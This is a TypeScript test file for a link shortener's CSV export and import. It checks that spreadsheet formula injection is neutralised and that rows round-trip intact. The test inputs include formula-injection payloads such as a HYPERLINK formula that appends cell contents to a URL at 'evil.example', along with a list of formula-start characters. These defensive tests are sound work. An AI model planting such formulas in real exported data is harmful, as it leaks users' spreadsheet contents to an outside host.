import { parse } from 'csv-parse/sync';
import { LINK_CSV_HEADER, linkCsvLines, linksFromCsv, type LinkExportRow } from './link-csv';

/** What a spreadsheet reads as the start of a formula: OWASP's list, and the full-width forms some read alike. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

function row(overrides: Partial<LinkExportRow>): LinkExportRow {
  return {
    id: 7,
    alias: 'promo',
    short_url: 'http://localhost:3000/promo',
    url: 'https://example.com/',
    title: 'A title',
    domain_id: 1,
    space_id: null,
    pixel_ids: null,
    targets_type: null,
    targets: null,
    sensitive_content: false,
    privacy: 0,
    active_period_start_at: null,
    active_period_end_at: null,
    clicks_limit: null,
    expiration_url: null,
    disabled: false,
    clicks: 0,
    created_at: new Date('2026-01-02T03:04:05Z'),
    ...overrides,
  };
}

/** The cells of CSV lines, as a spreadsheet or a parser reads them. */
function cells(text: string): string[][] {
  return parse(text, { relax_column_count: true });
}

describe('linkCsvLines', () => {
  it.each(FORMULA_STARTS)('writes a text cell starting with %j after a quote, the cell quoted', (start) => {
    const text = `${start}HYPERLINK("https://evil.example/?"&A1,"Click")`;
    const line = linkCsvLines([
      row({ alias: `${start}alias`, url: text, title: text, expiration_url: text, short_url: text }),
    ]);
    const [written] = cells(line);
    const [, alias, shortUrl, url, title] = written;
    expect([alias, shortUrl, url, title, written[15]]).toEqual([
      `'${start}alias`,
      `'${text}`,
      `'${text}`,
      `'${text}`,
      `'${text}`,
    ]);
    // Quoted, so that no reader takes the cell apart at the tab or carriage return.
    expect(line).toContain(`"'${start}alias"`);
  });

  it('leaves the targets cell, JSON that starts with a bracket, as it is', () => {
    const line = linkCsvLines([row({ targets: [{ value: '=1+1' }] })]);
    expect(cells(line)[0][9]).toBe('[{"value":"=1+1"}]');
  });

  it('leaves numbers and the cells it makes itself as they are, a negative number too', () => {
    const line = linkCsvLines([row({ id: -5, clicks_limit: -1, privacy: -2, clicks: -3, space_id: -4 })]);
    const written = cells(line)[0];
    expect([written[0], written[6], written[11], written[14], written[17]]).toEqual([
      '-5',
      '-4',
      '-2',
      '-1',
      '-3',
    ]);
    expect(line.startsWith('-5,')).toBe(true);
  });

  it('leaves text that only contains a formula character, or starts with another one, unchanged', () => {
    const titles = ['Sale = 50% off', 'a+b', "'quoted", ' =spaced', '(1)', '"quoted"'];
    const written = cells(linkCsvLines(titles.map((title) => row({ title }))));
    expect(written.map((line) => line[4])).toEqual(titles);
  });
  it('quotes a cell holding a separator of another locale, so that no formula starts a cell there', () => {
    const line = linkCsvLines([row({ title: 'Sale;=HYPERLINK("https://evil.example/")' })]);
    expect(line).toContain(',"Sale;=HYPERLINK(""https://evil.example/"")",');
  });
});

describe('linksFromCsv', () => {
  it.each(FORMULA_STARTS)('reads back what export wrote for a cell starting with %j', (start) => {
    const text = `${start}HYPERLINK("https://evil.example/","x")`;
    const exported = LINK_CSV_HEADER + linkCsvLines([row({ alias: `${start}a`, title: text, url: text })]);
    const [link] = linksFromCsv(Buffer.from(exported)).bodies;
    expect({ alias: link.alias, title: link.title, url: link.url }).toEqual({
      alias: `${start}a`,
      title: text,
      url: text,
    });
  });

  it('reads back text that starts with quotes before a formula character, and quotes alone', () => {
    const titles = ["'=1+1", "''-2", "'quoted", "''", 'plain'];
    const exported = LINK_CSV_HEADER + linkCsvLines(titles.map((title) => row({ title })));
    expect(linksFromCsv(Buffer.from(exported)).bodies.map((link) => link.title)).toEqual(titles);
  });

  it('takes a password column as it was written: export never writes one, so it never added a quote', () => {
    const [link] = linksFromCsv(
      Buffer.from("url,password,title\nhttps://example.com/,'=secret,'=title\n"),
    ).bodies;
    expect(link).toEqual({ url: 'https://example.com/', password: "'=secret", title: '=title' });
  });

  it.each([
    ['one row a line', 'url\na\nb\nc\n', [2, 3, 4]],
    ['empty lines and blank ones between rows', 'url\n\na\n  \n\nb', [3, 6]],
    ['a quoted cell over several lines', 'url,title\na,"one\ntwo\n\nthree"\nb,x\n', [2, 6]],
    ['CRLF, inside quotes too', 'url,title\r\na,"one\r\ntwo"\r\n\r\nb,x\r\n', [2, 5]],
    ['a byte order mark', '\ufeffurl\r\na\r\nb', [2, 3]],
    ['a header over two lines', '"url","ti\ntle"\na,b\n', [3]],
  ])('counts the line each row starts on, the header being line 1: %s', (_case, text, lines) => {
    expect(linksFromCsv(Buffer.from(text)).lines).toEqual(lines);
  });
});
